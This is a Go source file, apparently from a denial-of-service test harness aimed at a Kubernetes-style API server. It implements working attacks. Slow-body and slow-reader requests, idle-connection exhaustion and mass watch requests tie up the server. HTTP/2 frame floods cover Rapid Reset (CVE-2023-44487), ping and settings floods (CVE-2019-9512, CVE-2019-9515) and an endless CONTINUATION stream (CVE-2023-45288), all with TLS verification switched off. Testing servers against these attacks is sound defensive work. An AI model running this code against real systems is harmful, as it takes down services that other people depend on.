package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// dial opens a TLS connection for an application protocol, without a client certificate.
func dial(ctx context.Context, host, protocol string) (net.Conn, error) {
	d := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}}}
	return d.DialContext(ctx, "tcp", host)
}

// connections keeps n connections open until ctx ends. It calls the function use for each connection, and replaces
// each connection that ends. It returns the number of results of each kind.
func connections(ctx context.Context, host, protocol string, n int, use func(context.Context, net.Conn) error) string {
	raiseLimit()
	var counts counter
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for ctx.Err() == nil {
				c, err := dial(ctx, host, protocol)
				if err == nil {
					end := context.AfterFunc(ctx, func() { _ = c.Close() })
					err = use(ctx, c)
					end()
					_ = c.Close()
				}
				counts.add(0, err)
				pause(ctx, 100*time.Millisecond)
			}
		})
	}
	all.Wait()
	return counts.String()
}

// watches keeps 1000 watches open, and replaces each one that ends. Each watch starts with the existing objects.
func watches(ctx context.Context, host string) string {
	var counts counter
	var all sync.WaitGroup
	c := clientOf("attacker")
	for range 1000 {
		all.Go(func() {
			for ctx.Err() == nil {
				code, _, err := do(ctx, c, "GET", "https://"+host+own+"configmaps?watch=true&timeoutSeconds=5",
					jsonType, nil)
				counts.add(code, err)
			}
		})
	}
	all.Wait()
	return counts.String()
}

// slowBodies sends bodies of almost 3 MiB at one byte per second.
func slowBodies(ctx context.Context, host string) string {
	return connections(ctx, host, "http/1.1", 500, func(ctx context.Context, c net.Conn) error {
		fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer stranger\r\nContent-Type: "+
			"application/json\r\nContent-Length: %d\r\n\r\n{", reviews, largeBody)
		for ctx.Err() == nil {
			if _, err := c.Write([]byte(" ")); err != nil {
				return err
			}
			pause(ctx, time.Second)
		}
		return nil
	})
}

// slowReaders requests large lists and does not read them.
func slowReaders(ctx context.Context, host string) string {
	return connections(ctx, host, "http/1.1", 200, func(ctx context.Context, c net.Conn) error {
		fmt.Fprintf(c, "GET %sconfigmaps HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer attacker\r\n\r\n", own)
		pause(ctx, 30*time.Second)
		return nil
	})
}

// idleConnections opens connections and sends nothing.
func idleConnections(ctx context.Context, host string) string {
	return connections(ctx, host, "http/1.1", 2000, func(ctx context.Context, c net.Conn) error {
		_, err := c.Read(make([]byte, 1))
		return err
	})
}

// flood returns an attack that sends HTTP/2 frames on four connections as fast as the server reads them.
func flood(step func(f *http2.Framer, headers []byte, n uint32) error) func(context.Context, string) string {
	return func(ctx context.Context, host string) string {
		return connections(ctx, host, "h2", 4, func(ctx context.Context, c net.Conn) error {
			if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
				return err
			}
			f := http2.NewFramer(c, c)
			if err := f.WriteSettings(); err != nil {
				return err
			}
			go func() { _, _ = io.Copy(io.Discard, c) }()
			headers := requestHeaders(host)
			for n := uint32(1); ctx.Err() == nil; n += 2 {
				if err := step(f, headers, n); err != nil {
					return err
				}
			}
			return nil
		})
	}
}

func requestHeaders(host string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", own + "configmaps"},
		{":authority", host}, {"authorization", "Bearer attacker"}} {
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	return b.Bytes()
}

// reset opens a stream and resets it at once (CVE-2023-44487).
func reset(f *http2.Framer, headers []byte, n uint32) error {
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: n, BlockFragment: headers, EndStream: true,
		EndHeaders: true}); err != nil {
		return err
	}
	return f.WriteRSTStream(n, http2.ErrCodeCancel)
}

// ping sends a ping, to which the server must respond (CVE-2019-9512).
func ping(f *http2.Framer, _ []byte, _ uint32) error { return f.WritePing(false, [8]byte{}) }

// settings sends settings, which the server must acknowledge (CVE-2019-9515).
func settings(f *http2.Framer, _ []byte, _ uint32) error { return f.WriteSettings() }

// continuation sends headers that never end (CVE-2023-45288).
func continuation(f *http2.Framer, headers []byte, n uint32) error {
	if n == 1 {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers})
	}
	return f.WriteContinuation(1, false, bytes.Repeat([]byte{0x00, 0x01, 'a', 0x01, 'b'}, 3000))
}
